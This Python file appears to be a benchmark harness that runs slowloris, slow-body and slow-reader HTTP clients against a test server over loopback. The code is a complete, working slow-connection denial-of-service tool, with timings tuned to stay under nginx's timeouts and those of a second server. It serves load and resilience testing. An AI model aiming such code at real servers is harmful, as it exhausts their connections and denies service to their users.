#!/usr/bin/env python3
"""Hostile HTTP/1.1 clients against one server, for bench/run's `hostile`
workload (issue 11): slowloris heads, slow bodies and slow readers.

    attackers.py [--n N] [--src PREFIX] [--head-cap BYTES] [--big-path PATH] HOST PORT

Three kinds, N connections each (started on command, see below), all driven
by one selector loop and one timer heap in this one process, so the whole
attack costs a fraction of one core:

  head  slowloris: sends a partial request head (a request line, Host, and a
        run of short `X-a: bbb...` header lines, 40 bytes each: an opening burst of 1 KiB up to
        the cap, spread evenly over the connections), then one more header
        byte every 10-20 ms, for ever. The head never ends. When it reaches
        --head-cap bytes (set just below the server's head limit) the
        connection is reset and a new one starts.
  body  `POST /x HTTP/1.1` with `Content-Length: 100000` and a complete head,
        then one body byte every 2-4 s (inside nginx's 5 s lingering_timeout
        and catamount's 30 s first_data_timeout, so neither times it out).
  read  SO_RCVBUF 4096 (set before connect, so the window stays small), then
        `GET BIG_PATH` and no reading, except up to 4 KiB every 15-25 s, so
        the server sees a little progress inside any send timeout of 30 s or
        more (catamount's SEND_TIMEOUT, nginx's send_timeout of 60 s).

A connection the server closes (EOF, reset, a 408/400 answer on a head) is
replaced 0.5-1.5 s later, so the attack keeps its size and the reconnect rate
stays bounded. Each kind connects from its own loopback source address,
PREFIX.1 (head), PREFIX.2 (body), PREFIX.3 (read), so bench/run can tell them
apart in /proc/net/tcp.

Protocol on stdin/stdout (line based, like idle-conns.py):
  add KIND...  start N attackers of each KIND; answers `ready JSON` once each
               new one has connected and sent its opening bytes (or after 15 s)
  check        answers `stats JSON`: per kind, how many are open, how many
               connects, closes by the server (and the statuses it answered
               with), restarts at the head cap, errors
  end of stdin (or SIGTERM/SIGINT): resets every connection and exits.

Python 3 standard library only.
"""
import argparse
import collections
import errno
import heapq
import itertools
import json
import os
import random
import resource
import selectors
import signal
import socket
import struct
import sys
import time

IP_BIND_ADDRESS_NO_PORT = getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24)
TCP_ESTABLISHED = 1
KINDS = ("head", "body", "read")
SRC_SUFFIX = {"head": 1, "body": 2, "read": 3}

# Lines long enough that a head at the cap stays under both servers' field
# counts (catamount refuses more than 100 fields with 431 as soon as they
# have arrived; nginx answers 400 at about 1000 lines): 98 lines of 320
# bytes are 31,360 bytes, under the common cap (about 32 KB). With shorter
# lines catamount refused most heads at once and held none, which made its
# trickle CPU look better than it is.
HEAD_LINE = b"X-a: " + b"b" * 313 + b"\r\n"
HEAD_BYTES = [HEAD_LINE[i:i + 1] for i in range(len(HEAD_LINE))]
HEAD_EVERY = (0.010, 0.020)  # seconds between head bytes, per connection
BODY_LENGTH = 100_000
BODY_EVERY = (2.0, 4.0)      # seconds between body bytes
READ_RCVBUF = 4096
READ_EVERY = (15.0, 25.0)    # seconds between the slow reader's rare reads
READ_CHUNK = 4096
RECONNECT = (0.5, 1.5)       # delay before replacing a closed connection
CONNECTING_MAX = 128         # connects in flight at once
READY_DEADLINE = 15.0


class Conn:
    __slots__ = ("kind", "idx", "sock", "state", "gen", "out", "sent", "cap", "pos",
                 "answered", "opened")

    def __init__(self, kind, idx):
        self.kind = kind
        self.idx = idx
        self.sock = None
        self.state = "waiting"  # waiting, connecting, opening, active
        self.gen = 0            # bumped on every (re)connect: stale timers are ignored
        self.out = b""          # opening bytes not yet sent
        self.sent = 0           # head bytes sent (head), body bytes sent (body)
        self.cap = 0
        self.pos = 0            # next byte of HEAD_LINE
        self.answered = False   # the server sent a status line on this connection
        self.opened = False     # has completed its opening at least once


class Attack:
    def __init__(self, a):
        self.a = a
        self.host, self.port = a.host, a.port
        self.rng = random.Random(11)
        self.sel = selectors.DefaultSelector()
        self.heap = []
        self.seq = itertools.count()
        self.conns = {k: [] for k in KINDS}
        self.waiting = collections.deque()  # conns to connect, in order
        self.connecting = 0
        self.stats = {k: dict(connects=0, server_closed=0, restarts_at_cap=0,
                              statuses=collections.Counter(), errors=collections.Counter())
                      for k in KINDS}
        self.pending_ready = None  # (kinds, deadline)
        host = f"{self.host}:{self.port}"
        self.body_head = (f"POST /x HTTP/1.1\r\nHost: {host}\r\nContent-Type: text/plain\r\n"
                          f"Content-Length: {BODY_LENGTH}\r\n\r\n").encode()
        self.read_req = f"GET {a.big_path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
        self.head_start = f"GET /small.html HTTP/1.1\r\nHost: {host}\r\n".encode()

    # ------------------------------------------------------------ timers ---

    def at(self, t, c, what):
        heapq.heappush(self.heap, (t, next(self.seq), c, c.gen, what))

    def run_timers(self, now):
        # batch everything due within 2 ms: fewer wake-ups, same rates
        while self.heap and self.heap[0][0] <= now + 0.002:
            t, _, c, gen, what = heapq.heappop(self.heap)
            if gen != c.gen:
                continue
            if what == "connect":
                self.waiting.append(c)
            elif what == "head":
                self.tick_head(c, t, now)
            elif what == "body":
                self.tick_body(c, now)
            elif what == "read":
                self.tick_read(c, now)

    # -------------------------------------------------------- connections ---

    def add(self, kind):
        for i in range(self.a.n):
            c = Conn(kind, i)
            self.conns[kind].append(c)
            self.waiting.append(c)

    def start_connects(self):
        while self.waiting and self.connecting < CONNECTING_MAX:
            c = self.waiting.popleft()
            self.connect(c)

    def connect(self, c):
        c.gen += 1
        c.answered = False
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        except OSError as e:
            self.error(c, e.errno)
            return
        s.setblocking(False)
        try:
            s.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        except OSError:
            pass
        try:
            if c.kind == "read":
                s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, READ_RCVBUF)
            else:
                # the opening burst of a head goes out in one send
                s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 256 * 1024)
            s.bind((f"{self.a.src}.{SRC_SUFFIX[c.kind]}", 0))
            rc = s.connect_ex((self.host, self.port))
        except OSError as e:
            s.close()
            self.error(c, e.errno)
            return
        if rc not in (0, errno.EINPROGRESS):
            s.close()
            self.error(c, rc)
            return
        c.sock = s
        c.state = "connecting"
        self.connecting += 1
        self.sel.register(s, selectors.EVENT_WRITE, c)

    def opening(self, c):
        """The bytes a new connection sends at once."""
        if c.kind == "head":
            cap = self.a.head_cap
            lo = min(1024, cap // 2)
            # spread evenly from 1 KiB to the cap, so the server holds heads of every size
            size = lo + (cap - lo) * ((c.idx * 7919) % self.a.n) // max(1, self.a.n)
            lines = max(0, (size - len(self.head_start)) // len(HEAD_LINE))
            c.cap = cap
            c.pos = 0
            data = self.head_start + HEAD_LINE * lines
            c.sent = len(data)
            return data
        if c.kind == "body":
            c.sent = 0
            return self.body_head
        return self.read_req

    def on_event(self, c, mask):
        s = c.sock
        if c.state == "connecting":
            self.connecting -= 1
            c.state = "opening"
            err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if err:
                self.drop(c)
                self.error(c, err)
                return
            self.stats[c.kind]["connects"] += 1
            c.out = self.opening(c)
        if c.state == "opening" and (mask & selectors.EVENT_WRITE):
            try:
                n = s.send(c.out)
            except BlockingIOError:
                n = 0
            except OSError as e:
                self.server_closed(c, errno.errorcode.get(e.errno, str(e.errno)))
                return
            c.out = c.out[n:]
            if c.out:
                self.sel.modify(s, selectors.EVENT_READ | selectors.EVENT_WRITE, c)
                return
            c.state = "active"
            c.opened = True
            now = time.monotonic()
            if c.kind == "head":
                self.sel.modify(s, selectors.EVENT_READ, c)
                self.at(now + self.rng.uniform(*HEAD_EVERY), c, "head")
            elif c.kind == "body":
                self.sel.modify(s, selectors.EVENT_READ, c)
                self.at(now + self.rng.uniform(0.1, BODY_EVERY[0]), c, "body")
            else:
                # never watched for reading: the response would wake us for ever
                self.sel.unregister(s)
                self.at(now + self.rng.uniform(*READ_EVERY), c, "read")
            return
        if mask & selectors.EVENT_READ:
            self.on_readable(c)

    def on_readable(self, c):
        try:
            data = c.sock.recv(65536)
        except BlockingIOError:
            return
        except OSError as e:
            self.server_closed(c, errno.errorcode.get(e.errno, str(e.errno)))
            return
        if not data:
            self.server_closed(c, None if c.answered else "closed")
            return
        if not c.answered and data.startswith(b"HTTP/"):
            c.answered = True
            status = data[9:12].decode("ascii", "replace")
            self.stats[c.kind]["statuses"][status] += 1
            if c.kind == "head":
                # the server gave up on this head: start a new one
                self.server_closed(c, None)
        # body: an early answer (nginx answers 404 and then discards the
        # body) is read and ignored; the trickle goes on while the server
        # keeps the connection

    def tick_head(self, c, t, now):
        if c.state != "active":
            return
        if c.sent >= c.cap:
            self.stats["head"]["restarts_at_cap"] += 1
            self.drop(c)
            self.at(now, c, "connect")
            return
        try:
            c.sock.send(HEAD_BYTES[c.pos])
            c.pos = (c.pos + 1) % len(HEAD_BYTES)
            c.sent += 1
        except BlockingIOError:
            pass
        except OSError as e:
            self.server_closed(c, errno.errorcode.get(e.errno, str(e.errno)))
            return
        # keep each connection's own rate; a late loop does not catch up in a burst
        self.at(max(t + self.rng.uniform(*HEAD_EVERY), now), c, "head")

    def tick_body(self, c, now):
        if c.state != "active":
            return
        try:
            c.sock.send(b"a")
            c.sent += 1
        except BlockingIOError:
            pass
        except OSError as e:
            self.server_closed(c, errno.errorcode.get(e.errno, str(e.errno)))
            return
        if c.sent >= BODY_LENGTH:  # about three days at this rate
            self.drop(c)
            self.at(now, c, "connect")
            return
        self.at(now + self.rng.uniform(*BODY_EVERY), c, "body")

    def tick_read(self, c, now):
        if c.state != "active":
            return
        try:
            data = c.sock.recv(READ_CHUNK)
            if not data:
                self.server_closed(c, "closed")
                return
        except BlockingIOError:
            pass
        except OSError as e:
            self.server_closed(c, errno.errorcode.get(e.errno, str(e.errno)))
            return
        self.at(now + self.rng.uniform(*READ_EVERY), c, "read")

    def read_conn_open(self, c):
        """A slow reader is never watched for reading; ask TCP whether the
        server has closed (FIN or reset) instead."""
        try:
            info = c.sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)
        except OSError:
            return False
        return struct.unpack("B", info[:1])[0] == TCP_ESTABLISHED

    def drop(self, c):
        """Closes c's socket with a reset (no TIME_WAIT on the loopback ports)."""
        if c.sock is None:
            return
        if c.state == "connecting":
            self.connecting -= 1
        try:
            self.sel.unregister(c.sock)
        except (KeyError, ValueError):
            pass
        try:
            c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        except OSError:
            pass
        c.sock.close()
        c.sock = None
        c.state = "waiting"
        c.gen += 1

    def server_closed(self, c, why):
        self.stats[c.kind]["server_closed"] += 1
        if why:
            self.stats[c.kind]["statuses"][why] += 1
        self.drop(c)
        self.at(time.monotonic() + self.rng.uniform(*RECONNECT), c, "connect")

    def error(self, c, err):
        name = errno.errorcode.get(err, str(err)) if isinstance(err, int) else str(err)
        self.stats[c.kind]["errors"][name] += 1
        c.state = "waiting"
        self.at(time.monotonic() + self.rng.uniform(*RECONNECT), c, "connect")

    # ------------------------------------------------------------ report ---

    def snapshot(self, kinds=KINDS):
        out = {}
        for k in kinds:
            cs = self.conns[k]
            if not cs:
                continue
            if k == "read":
                for c in cs:
                    if c.state == "active" and not self.read_conn_open(c):
                        self.server_closed(c, "closed")
            st = self.stats[k]
            out[k] = dict(n=len(cs),
                          open=sum(1 for c in cs if c.state == "active"),
                          opening=sum(1 for c in cs if c.state in ("connecting", "opening")),
                          connects=st["connects"], server_closed=st["server_closed"],
                          statuses=dict(st["statuses"]), errors=dict(st["errors"]))
            if k == "head":
                out[k]["restarts_at_cap"] = st["restarts_at_cap"]
                out[k]["cap"] = self.a.head_cap
                live = [c.sent for c in cs if c.state == "active"]
                out[k]["head_bytes"] = [min(live), int(sum(live) / len(live)), max(live)] if live else None
        return out

    def check_ready(self, now):
        kinds, deadline = self.pending_ready
        done = all(c.opened for k in kinds for c in self.conns[k])
        if done or now >= deadline:
            snap = self.snapshot(kinds)
            snap["secs"] = round(now - (deadline - READY_DEADLINE), 2)
            print("ready " + json.dumps(snap), flush=True)
            self.pending_ready = None

    def command(self, line):
        words = line.split()
        if not words:
            return
        if words[0] == "add":
            kinds = [k for k in words[1:] if k in KINDS and not self.conns[k]]
            for k in kinds:
                self.add(k)
            self.pending_ready = (kinds, time.monotonic() + READY_DEADLINE)
        elif words[0] == "check":
            print("stats " + json.dumps(self.snapshot()), flush=True)
        else:
            print(f"error unknown command {words[0]!r}", flush=True)

    def shutdown(self, *_):
        for cs in self.conns.values():
            for c in cs:
                self.drop(c)
        os._exit(0)

    def loop(self):
        stdin = sys.stdin.fileno()
        os.set_blocking(stdin, False)
        self.sel.register(stdin, selectors.EVENT_READ, None)
        inbuf = b""
        while True:
            self.start_connects()
            now = time.monotonic()
            timeout = 0.2
            if self.heap:
                timeout = min(timeout, max(0.0, self.heap[0][0] - now))
            for key, mask in self.sel.select(timeout):
                if key.data is None:
                    try:
                        chunk = os.read(stdin, 4096)
                    except BlockingIOError:
                        continue
                    if not chunk:
                        self.shutdown()
                    inbuf += chunk
                    while b"\n" in inbuf:
                        line, inbuf = inbuf.split(b"\n", 1)
                        self.command(line.decode(errors="replace"))
                    continue
                c = key.data
                if c.sock is not None and key.fileobj is c.sock:
                    self.on_event(c, mask)
            now = time.monotonic()
            self.run_timers(now)
            if self.pending_ready:
                self.check_ready(now)


def raise_nofile(n):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < n:
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (min(n, hard), hard))
        except (ValueError, OSError):
            pass


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--n", type=int, default=300, help="connections of each kind")
    ap.add_argument("--src", default="127.0.200",
                    help="first three octets of the source addresses (.1 head, .2 body, .3 read)")
    ap.add_argument("--head-cap", type=int, default=64 * 1024 - 512,
                    help="largest head a slowloris sends before it starts again")
    ap.add_argument("--big-path", default="/10m.bin", help="what the slow readers GET")
    a = ap.parse_args()
    raise_nofile(3 * a.n + 64)
    att = Attack(a)
    signal.signal(signal.SIGTERM, att.shutdown)
    signal.signal(signal.SIGINT, att.shutdown)
    att.loop()


if __name__ == "__main__":
    main()
